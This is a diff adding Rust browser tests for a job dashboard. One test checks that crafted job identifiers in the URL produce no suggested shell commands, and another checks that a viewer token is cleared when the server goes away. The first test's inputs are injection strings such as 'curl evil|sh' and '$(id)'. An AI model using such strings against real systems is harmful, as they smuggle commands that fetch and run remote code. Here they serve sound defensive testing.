@@ -166,6 +166,23 @@ async fn texts_of_tenants_are_never_code_in_a_job() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
+async fn an_address_brings_no_text_into_commands() {
+    let Some(mut browser) = Browser::start().await else { return };
+    let model = Model::live(20, Indexed::of(100)).await;
+    for job in ["ml/x%0Acurl%20evil|sh%0A", "ml/x$(id)", "ml/x;id", "-h/x", "ml", "ml/x/y"] {
+        browser.open("about:blank?").await;
+        browser.open(&format!("{}#job={job}", model.url)).await;
+        browser.until("document.querySelectorAll('#job-rows tr').length > 0").await;
+        let shown = "[document.querySelector('#job-view').hidden, document.querySelectorAll('#next-commands code').length]";
+        assert_eq!(browser.value(shown).await, json!([true, 0]), "{job}");
+    }
+    let job = first_job(&mut browser).await;
+    browser.open(&format!("{}#job={job}&tab=log&pod=p%0Aid", model.url)).await;
+    browser.until("document.querySelector('#tab-log').getAttribute('aria-selected') === 'true'").await;
+    assert_eq!(browser.value("document.querySelector('#log-pod').textContent").await, "");
+}
+
+#[tokio::test(flavor = "multi_thread")]
 async fn without_a_token_of_the_cluster_the_replicas_part_is_shown_and_a_token_is_asked_for() {
     let Some(mut browser) = Browser::start().await else { return };
     let model = Model::serve(20).await;
@@ -223,6 +240,28 @@ async fn the_token_of_a_viewer_goes_to_the_questions_that_need_it_and_nowhere_el
     browser.until("asked.filter(([path]) => path === '/debug/overview').length >= 4").await;
     let others = "asked.filter(([path, token]) => !path.startsWith('/debug/job') && token !== '').map(([path]) => path)";
     assert_eq!(browser.value(others).await, json!([]));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_token_of_a_viewer_is_forgotten_once_the_server_is_gone() {
+    let Some(mut browser) = Browser::start().await else { return };
+    let model = Model::live(20, Indexed::of(100)).await;
+    browser.open(&model.url).await;
+    let job = first_job(&mut browser).await;
+    browser.open(&format!("{}#job={job}", model.url)).await;
+    browser.until(&format!("({MAP} || '').includes('succeeded')")).await;
+    browser.value(NOTE_REQUESTS).await;
+    browser
+        .value("document.querySelector('#viewer-token').value = 'v', document.querySelector('#viewer').requestSubmit()")
+        .await;
+    browser.until("asked.some(([path, token]) => path === '/debug/job' && token === 'Bearer v')").await;
+    let refuse =
+        "window.noted = window.fetch, window.fetch = () => Promise.reject(new TypeError('refused')), 0";
+    browser.value(refuse).await;
+    browser.until("sessionStorage.getItem('yardmaster-viewer-token') === ''").await;
+    browser.value("window.asked = [], window.fetch = window.noted, 0").await;
+    browser.until("asked.filter(([path]) => path === '/debug/job').length > 0").await;
+    assert_eq!(browser.value("asked.filter(([, token]) => token !== '').length").await, 0);
 }
 
 #[tokio::test(flavor = "multi_thread")]
